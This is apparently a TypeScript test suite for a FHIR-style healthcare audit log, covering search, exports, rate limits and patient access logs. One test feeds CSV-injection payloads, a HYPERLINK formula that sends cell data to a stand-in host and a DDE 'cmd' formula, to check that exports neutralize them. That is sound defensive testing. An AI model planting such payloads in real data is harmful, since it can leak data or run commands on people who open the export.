import { parse } from 'csv-parse/sync';
import request, { type Response } from 'supertest';
import { AuditQueryService } from '../src/audit/audit-query.service';
import { CSV_COLUMNS } from '../src/audit/audit-export.service';
import type { AuditRow } from '../src/audit/audit.types';
import {
  FHIR_ACTIONS, FHIR_OUTCOMES, RESTFUL_INTERACTIONS, SYSTEMS, V3_PURPOSES_OF_USE,
} from '../src/audit/fhir-audit-event';
import { AuditFilterDto } from '../src/audit/dto/audit-query.dto';
import { bool } from '../src/database/db';
import { createTestApp, TestApp } from './helpers/test-app';

/** Collects a streamed body as text, whatever its content type. */
const text = (res: unknown, cb: (err: Error | null, body: string) => void) => {
  const stream = res as NodeJS.ReadableStream & { setEncoding(e: string): void };
  let body = '';
  stream.setEncoding('utf8');
  stream.on('data', (c: string) => (body += c));
  stream.on('end', () => cb(null, body));
};

describe('audit search, export and access logs', () => {
  let t: TestApp;
  let ids: Record<string, number>;

  beforeAll(async () => {
    t = await createTestApp({ patients: 30, env: { JWT_TTL: '86400' } });
    ids = Object.fromEntries(
      (await t.db.query<{ id: number; username: string }>('SELECT id, username FROM users')).map((u) => [u.username, Number(u.id)]),
    );
    // Activity: care-team reads, a write, refusals, a break-the-glass access with its purpose of use.
    const chen = await t.as('dr.chen');
    const nurse = await t.as('nurse.patel');
    for (const p of [1, 5, 7]) await chen.get(`/patients/${p}/record`).set('X-Purpose-Of-Use', 'TREAT').expect(200);
    for (const p of [1, 11]) await nurse.get(`/patients/${p}/record`).expect(200);
    await nurse.get('/patients/4/record').expect(403);
    await (await t.as('coder.kim')).get('/users').expect(403);
    await nurse.post('/access/break-glass').send({ patientId: 9, reason: 'Rapid response call on the ward, need the medication list' }).expect(201);
    await nurse.get('/patients/9/record').expect(200);
    await (await t.as('patient.demo')).get('/me/record').expect(200);
  });
  afterAll(() => t.close());
  // Each test starts a fresh minute, so the per-user export limit (6 a minute) only bites where a test wants it to.
  beforeEach(() => t.clock.advance(61_000));

  const privacy = () => t.as('privacy.smith');
  const exportOf = async (query: string, expectStatus = 200): Promise<Response> =>
    (await privacy()).get(`/audit/events/export?${query}`).buffer(true).parse(text).expect(expectStatus);
  const searchAll = async (query: string): Promise<number[]> => {
    const seqs: number[] = [];
    let snapshot = '';
    for (let page = 1; ; page++) {
      const res = await (await privacy()).get(`/audit/events?${query}${query ? '&' : ''}pageSize=200&page=${page}${snapshot}`).expect(200);
      seqs.push(...res.body.items.map((e: { seq: number }) => e.seq));
      snapshot = `&upToSeq=${res.body.upToSeq}`;
      if (page * 200 >= res.body.total) return seqs;
    }
  };

  describe('search', () => {
    it('answers newest first, paginated, with the total', async () => {
      const p1 = (await (await privacy()).get('/audit/events?pageSize=5').expect(200)).body;
      // Page 1 was itself audited: without the snapshot, page 2 would start one row later and repeat a row.
      const p2 = (await (await privacy()).get(`/audit/events?pageSize=5&page=2&upToSeq=${p1.upToSeq}`).expect(200)).body;
      expect(p1).toMatchObject({ page: 1, pageSize: 5, total: p1.upToSeq, upToSeq: expect.any(Number) });
      expect(p2).toMatchObject({ page: 2, total: p1.total, upToSeq: p1.upToSeq });
      const seqs = [...p1.items, ...p2.items].map((e: { seq: number }) => e.seq);
      expect(seqs).toEqual(Array.from({ length: 10 }, (_, i) => p1.upToSeq - i));
    });

    it.each([
      ['patientId=1', (r: AuditRow) => Number(r.patient_id) === 1],
      ['actorId=ACTOR', (r: AuditRow) => r.actor_username === 'nurse.patel'],
      ['action=read', (r: AuditRow) => r.action === 'read'],
      ['outcome=denied', (r: AuditRow) => r.outcome === 'denied'],
      ['role=physician', (r: AuditRow) => r.actor_role === 'physician'],
      ['resourceType=record', (r: AuditRow) => r.resource_type === 'record'],
      ['breakGlass=true', (r: AuditRow) => bool(r.break_glass)],
      ['breakGlass=false&action=read&patientId=1', (r: AuditRow) => !bool(r.break_glass) && r.action === 'read' && Number(r.patient_id) === 1],
    ])('filter %s gives exactly the matching rows', async (filter, matches) => {
      const query = filter.replace('ACTOR', String(ids['nurse.patel']));
      const found = await searchAll(query);
      const rows = await t.db.query<AuditRow>('SELECT * FROM audit_events WHERE seq <= $1 ORDER BY seq DESC', [Math.max(...found, 0)]);
      expect(found.length).toBeGreaterThan(0);
      expect(found).toEqual(rows.filter(matches).map((r) => Number(r.seq)));
    });

    it('filters by request id and by time range', async () => {
      const row = (await t.db.one<AuditRow>("SELECT * FROM audit_events WHERE action = 'break-glass'"))!;
      expect(await searchAll(`requestId=${row.request_id}`)).toEqual([Number(row.seq)]);
      const at = new Date(row.occurred_at).getTime();
      const window = `from=${new Date(at).toISOString()}&to=${new Date(at + 1).toISOString()}`;
      expect(await searchAll(window)).toContain(Number(row.seq));
      expect((await searchAll(window)).every((s) => s >= Number(row.seq))).toBe(true);
      await (await privacy()).get(`/audit/events?from=${new Date(at).toISOString()}&to=${new Date(at).toISOString()}`).expect(400);
    });

    it('is itself audited with its filter', async () => {
      await (await privacy()).get('/audit/events?patientId=7&action=read').expect(200);
      const row = (await t.db.one<AuditRow>("SELECT * FROM audit_events WHERE action = 'search' AND resource_type = 'audit-event' ORDER BY seq DESC LIMIT 1"))!;
      expect(JSON.parse(row.details!)).toMatchObject({ filter: { patientId: 7, action: 'read' }, results: 1 });
      expect(row.actor_username).toBe('privacy.smith');
    });

    it('is refused without audit:read', async () => {
      await (await t.as('nurse.patel')).get('/audit/events').expect(403);
    });
  });

  describe('query plans: patient and actor searches use an index, not a scan of the trail', () => {
    const plan = async (f: Partial<AuditFilterDto>): Promise<string> => {
      const q = t.app.get(AuditQueryService).searchSql(Object.assign(new AuditFilterDto(), f), 1_000_000);
      const lines: string[] = [];
      for (const stmt of [q.page, q.count]) {
        if (t.dialect === 'sqlite') {
          const rows = t.db.sqlite.prepare(`EXPLAIN QUERY PLAN ${stmt.sql.replace(/\$\d+/g, '?')}`).all(
            ...stmt.params.map((p) => (typeof p === 'boolean' ? Number(p) : p)),
          ) as { detail: string }[];
          lines.push(...rows.map((r) => r.detail));
        } else {
          // Tiny tables make a sequential scan cheapest; forbid it to see whether an index plan exists at all.
          const out = await t.db.transaction(async (tx) => {
            await tx.query('SET LOCAL enable_seqscan = off');
            return tx.query<{ 'QUERY PLAN': string }>(`EXPLAIN ${stmt.sql}`, stmt.params);
          });
          lines.push(...out.map((r) => r['QUERY PLAN']));
        }
      }
      return lines.join('\n');
    };

    it.each([
      [{ patientId: 1 }, 'audit_by_patient'],
      [{ actorId: 4 }, 'audit_by_actor'],
      [{ outcome: 'denied' }, 'audit_not_success'],
      [{ breakGlass: 'true' as const }, 'audit_break_glass'],
      [{ requestId: 'abc' }, 'audit_by_request'],
    ])('%j uses %s', async (filter, index) => {
      const p = await plan(filter);
      expect(p).toContain(index);
      expect(p).not.toMatch(t.dialect === 'sqlite' ? /SCAN audit_events(?! USING)/ : /Seq Scan/);
    });

    it('a search by action reads the newest page from audit_by_action_seq, without sorting every row of that action', async () => {
      const p = await plan({ action: 'read' });
      expect(p).toContain(t.dialect === 'sqlite' ? 'audit_by_action_seq' : 'audit_by_action');
      expect(p).not.toMatch(t.dialect === 'sqlite' ? /SCAN audit_events(?! USING)|TEMP B-TREE/ : /Seq Scan/);
    });
  });

  describe('export', () => {
    it('CSV with raw=true parses back (csv-parse) to exactly the stored rows', async () => {
      const res = await exportOf('format=csv&raw=true');
      expect(res.headers['x-csv-cells']).toMatch(/^raw/);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      expect(res.headers['content-disposition']).toMatch(/attachment; filename="audit-events-.*\.csv"/);
      const upTo = Number(res.headers['x-audit-export-up-to-seq']);
      const records = parse(res.body as string, {
        columns: true,
        // Unquoted empty = NULL, quoted empty = '' (the export quotes empty strings).
        cast: (value, ctx) => (value === '' && !ctx.quoting ? null : value),
      }) as Record<string, string | null>[];
      const stored = await t.db.query<AuditRow>('SELECT * FROM audit_events WHERE seq <= $1 ORDER BY seq', [upTo]);
      expect(records).toHaveLength(stored.length);
      expect(Number(res.headers['x-audit-export-rows'])).toBe(stored.length);
      expect(Object.keys(records[0])).toEqual([...CSV_COLUMNS]);
      const asText = (r: AuditRow) =>
        Object.fromEntries(CSV_COLUMNS.map((c) => [c, c === 'break_glass' ? String(bool(r[c])) : r[c] === null ? null : String(r[c])]));
      expect(records).toEqual(stored.map(asText));
    });

    it('CSV neutralizes cells a spreadsheet would run as formulas (OWASP CSV injection); raw=true keeps the bytes', async () => {
      const username = '=HYPERLINK("http://x"&A2,"open")';
      const agent = "=cmd|' /C calc'!A0";
      await request(t.http).post('/auth/login').set('User-Agent', agent).send({ username, password: 'wrong password' }).expect(401);
      const cells = async (query: string) => {
        const res = await exportOf(`format=csv&action=login-failed${query}`);
        const rows = parse(res.body as string, { columns: true }) as Record<string, string>[];
        return { header: res.headers['x-csv-cells'], row: rows.find((r) => r.actor_username?.includes('HYPERLINK'))! };
      };
      const safe = await cells('');
      expect(safe.header).toMatch(/^neutralized/);
      expect(safe.row).toMatchObject({ actor_username: `'${username}`, user_agent: `'${agent}` });
      const raw = await cells('&raw=true');
      expect(raw.header).toMatch(/^raw/);
      expect(raw.row).toMatchObject({ actor_username: username, user_agent: agent });
      // Every text cell of the default export is safe to open.
      const all = parse((await exportOf('format=csv')).body as string, { columns: true }) as Record<string, string>[];
      for (const r of all) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
    });

    it('gives the same set as the paginated search, in every format', async () => {
      for (const filter of [`actorId=${ids['nurse.patel']}`, 'patientId=9&breakGlass=true', 'outcome=denied', 'action=read&role=physician']) {
        const fromSearch = (await searchAll(filter)).sort((a, b) => a - b);
        const nd = await exportOf(`format=ndjson&${filter}`);
        const ndSeqs = (nd.body as string).trim().split('\n').filter(Boolean).map((l) => JSON.parse(l).seq);
        // The export fixes its end when it starts; the search ran before it, so compare up to the same row.
        const upTo = Number(nd.headers['x-audit-export-up-to-seq']);
        expect(ndSeqs).toEqual(fromSearch.filter((s) => s <= upTo));
        const fhir = await exportOf(`format=fhir&${filter}`);
        expect((fhir.body as string).trim().split('\n').map((l) => Number(JSON.parse(l).id))).toEqual(ndSeqs);
        const csv = parse((await exportOf(`format=csv&${filter}`)).body as string, { columns: true }) as { seq: string }[];
        expect(csv.map((r) => Number(r.seq))).toEqual(ndSeqs);
        t.clock.advance(61_000);
      }
    });

    it('every FHIR entry is an AuditEvent shaped after IHE BALP, with codes from the value sets', async () => {
      const res = await exportOf('format=fhir&fhirBundle=true');
      expect(res.headers['content-type']).toMatch(/^application\/fhir\+json/);
      const bundle = JSON.parse(res.body as string);
      expect(bundle).toMatchObject({ resourceType: 'Bundle', type: 'collection', timestamp: expect.any(String) });
      expect(bundle.entry.length).toBe(Number(res.headers['x-audit-export-rows']));
      expect(new Set(bundle.entry.map((e: { fullUrl: string }) => e.fullUrl)).size).toBe(bundle.entry.length);
      const stored = new Map((await t.db.query<AuditRow>('SELECT * FROM audit_events')).map((r) => [String(r.seq), r]));
      const eventTypes = new Set([SYSTEMS.eventType, SYSTEMS.dicom]);
      for (const { fullUrl, resource: e } of bundle.entry) {
        const row = stored.get(e.id)!;
        expect(fullUrl).toMatch(/^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
        expect(e.resourceType).toBe('AuditEvent');
        // Required elements (R4: type, recorded, agent 1..*, source with observer), and the BALP shape.
        expect(eventTypes.has(e.type.system)).toBe(true);
        expect(FHIR_ACTIONS).toContain(e.action);
        expect(FHIR_OUTCOMES).toContain(e.outcome);
        expect(e.recorded).toBe(row.occurred_at);
        expect(e.source.observer.display).toEqual(expect.any(String));
        expect(e.source.type[0]).toMatchObject({ system: SYSTEMS.sourceType, code: '4' });
        expect(e.agent.length).toBeGreaterThanOrEqual(1);
        for (const a of e.agent) expect(typeof a.requestor).toBe('boolean');
        if (e.type.code === 'rest') {
          expect(e.type.system).toBe(SYSTEMS.eventType);
          expect(e.subtype[0].system).toBe(SYSTEMS.restful);
          expect(RESTFUL_INTERACTIONS).toContain(e.subtype[0].code);
        }
        expect(e.outcome).toBe({ success: '0', denied: '4', error: '8' }[row.outcome]);
        if (row.actor_user_id !== null) {
          const user = e.agent.find((a: { requestor: boolean }) => a.requestor);
          expect(user.who.identifier.value).toBe(row.actor_username);
          expect(user.who.display).toEqual(expect.any(String));
          expect(user.role[0].coding[0].code).toBe(row.actor_role);
          // BALP: the user is no network device; the client agent carries the caller's address.
          expect(user.network).toBeUndefined();
          const client = e.agent.find((a: { network?: { type: string } }) => a.network?.type === '2');
          if (row.client_ip) expect(client.network).toEqual({ address: row.client_ip, type: '2' });
        }
        if (row.patient_id !== null) {
          expect(e.entity).toContainEqual(expect.objectContaining({
            what: { reference: `Patient/${row.patient_id}` },
            type: expect.objectContaining({ system: SYSTEMS.entityType, code: '1' }),
            role: expect.objectContaining({ system: SYSTEMS.objectRole, code: '1' }),
          }));
        }
        if (row.purpose_of_use) {
          const coding = e.purposeOfEvent[0].coding[0];
          expect(coding.code).toBe(row.purpose_of_use);
          expect(coding.system === SYSTEMS.actReason ? V3_PURPOSES_OF_USE.has(coding.code) : coding.system === SYSTEMS.localPurpose).toBe(true);
        }
      }
      // The chart reads are "rest"/"read"/"R" with the patient and the record as entities; the denial is outcome 4.
      const read = bundle.entry.map((x: { resource: Record<string, unknown> }) => x.resource).find((e: { id: string }) => {
        const r = stored.get(e.id)!;
        return r.action === 'read' && r.actor_username === 'dr.chen' && r.purpose_of_use === 'TREAT';
      });
      expect(read).toMatchObject({ type: { code: 'rest' }, subtype: [{ code: 'read' }], action: 'R', purposeOfEvent: [{ coding: [{ system: SYSTEMS.actReason, code: 'TREAT' }] }] });
      const denial = bundle.entry.find((x: { resource: { id: string } }) => stored.get(x.resource.id)!.outcome === 'denied');
      expect(denial.resource.outcome).toBe('4');
    });

    it('is audited before it streams: action export with the filter and the row count', async () => {
      const res = await exportOf('format=ndjson&patientId=1');
      const row = (await t.db.one<AuditRow>("SELECT * FROM audit_events WHERE action = 'export' ORDER BY seq DESC LIMIT 1"))!;
      expect(row).toMatchObject({ actor_username: 'privacy.smith', outcome: 'success' });
      expect(Number(row.patient_id)).toBe(1);
      expect(JSON.parse(row.details!)).toEqual({
        format: 'ndjson', filter: { patientId: 1 }, rows: Number(res.headers['x-audit-export-rows']), upToSeq: Number(res.headers['x-audit-export-up-to-seq']),
      });
      expect(Number(row.seq)).toBeGreaterThan(Number(res.headers['x-audit-export-up-to-seq']));
    });

    it('is limited per user and minute: 429 with Retry-After, audited, then allowed again', async () => {
      for (let i = 0; i < 6; i++) await exportOf('format=ndjson&patientId=3');
      const refused = await exportOf('format=ndjson&patientId=3', 429);
      expect(Number(refused.headers['retry-after'])).toBeGreaterThanOrEqual(1);
      expect(Number(refused.headers['retry-after'])).toBeLessThanOrEqual(60);
      const row = (await t.db.one<AuditRow>("SELECT * FROM audit_events WHERE action = 'export' ORDER BY seq DESC LIMIT 1"))!;
      expect(row).toMatchObject({ outcome: 'denied', reason: 'throttled' });
      // Another user is not affected; the same user may export again a minute later.
      await (await t.as('instructor')).get('/audit/events/export?format=csv&patientId=3').expect(200);
      t.clock.advance(61_000);
      await exportOf('format=ndjson&patientId=3');
    });

    it('needs audit:export and a known format', async () => {
      await (await t.as('dr.chen')).get('/audit/events/export?format=csv').expect(403);
      await (await privacy()).get('/audit/events/export?format=xml').expect(400);
      await (await privacy()).get('/audit/events/export').expect(400);
    });
  });

  describe('patient access log', () => {
    it('shows the workforce access to that patient, with name, role, purpose and break-the-glass, and nothing of other patients', async () => {
      const res = await (await privacy()).get('/audit/patients/9/access-log?pageSize=200').expect(200);
      expect(res.body).toMatchObject({ patientId: 9, page: 1, total: res.body.items.length });
      const seqs = res.body.items.map((e: { seq: number }) => e.seq);
      const rows = await t.db.query<AuditRow>(`SELECT * FROM audit_events WHERE seq IN (${seqs.join(',')})`);
      expect(rows.every((r) => Number(r.patient_id) === 9)).toBe(true);
      const expected = await t.db.query<{ seq: number }>(
        "SELECT seq FROM audit_events WHERE patient_id = 9 AND action IN ('read', 'break-glass') AND seq < $1 ORDER BY seq DESC",
        [Math.max(...seqs) + 1],
      );
      expect(seqs.filter((s: number) => expected.some((e) => Number(e.seq) === s))).toEqual(expected.map((e) => Number(e.seq)));
      const read = res.body.items.find((e: { action: string; who: { role: string } }) => e.action === 'read' && e.who.role === 'nurse');
      expect(read).toMatchObject({
        who: { userId: ids['nurse.patel'], name: 'Priya Patel, RN', role: 'nurse' },
        what: { resourceType: 'record', resourceId: '9' }, breakGlass: true, purposeOfUse: 'ETREAT', at: expect.any(String),
      });
      expect(seqs).toEqual([...seqs].sort((a: number, b: number) => b - a));
    });

    it('for patient 1: dr.chen and nurse.patel are there, the readers of patient 5 are not', async () => {
      const res = await (await privacy()).get('/audit/patients/1/access-log').expect(200);
      const who = new Set(res.body.items.map((e: { who: { name: string } }) => e.who.name));
      expect([...who]).toEqual(expect.arrayContaining(['Dr. Mei Chen', 'Priya Patel, RN']));
      const rows = await t.db.query<AuditRow>(`SELECT * FROM audit_events WHERE seq IN (${res.body.items.map((e: { seq: number }) => e.seq).join(',')})`);
      expect(rows.every((r) => Number(r.patient_id) === 1)).toBe(true);
      // The patient's own copy lists the same workforce accesses.
      const mine = await (await t.as('patient.demo')).get('/me/access-log').expect(200);
      const workforce = (items: { seq: number; who: { role: string } }[]) => items.filter((e) => e.who.role !== 'patient' && e.who.role !== 'privacy_officer').map((e) => e.seq);
      expect(workforce(mine.body.items)).toEqual(expect.arrayContaining(workforce(res.body.items)));
    });

    it('is audited, needs audit:read, and answers 404 for an unknown patient', async () => {
      await (await privacy()).get('/audit/patients/5/access-log').expect(200);
      const row = (await t.db.one<AuditRow>("SELECT * FROM audit_events WHERE resource_type = 'access-log' ORDER BY seq DESC LIMIT 1"))!;
      expect(row).toMatchObject({ action: 'read', actor_username: 'privacy.smith', resource_id: '5' });
      await (await t.as('nurse.patel')).get('/audit/patients/5/access-log').expect(403);
      await (await privacy()).get('/audit/patients/99999/access-log').expect(404);
    });
  });
});
